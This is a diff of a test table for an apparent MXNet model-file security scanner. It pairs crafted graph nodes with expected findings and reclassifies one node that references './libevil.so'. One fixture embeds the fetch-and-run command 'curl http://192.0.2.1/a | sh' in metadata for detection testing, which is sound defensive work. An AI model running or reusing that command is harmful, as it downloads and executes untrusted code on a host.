@@ -38,7 +38,7 @@ describe('MXNet symbols', () => {
     [{ op: 'Custom', attrs: { op_type: 'evil' } }, 'graph/calls-registered-code', 'medium'],
     [{ op: '_Native', attrs: { info: '0x7fff0000' } }, 'graph/loads-native', 'high'],
     [{ op: '_NDArray', attrs: { info: '140001' } }, 'graph/loads-native', 'high'],
-    [{ op: 'TVMOp', attrs: { lib: './libevil.so' } }, 'reference/escapes-folder', 'high'],
+    [{ op: 'TVMOp', attrs: { lib: './libevil.so' } }, 'reference/beside-model', 'high'],
     [{ op: 'Convolution', inputs: [[99, 0, 0]] }, 'format/unsafe-structure', 'medium'],
     [{ op: 'Convolution', name: 'a'.repeat(5000) }, 'format/exhausts-resources', 'medium'],
     [{ op: 'Convolution', attrs: { note: 'curl http://192.0.2.1/a | sh' } }, 'metadata/holds-code', 'medium'],
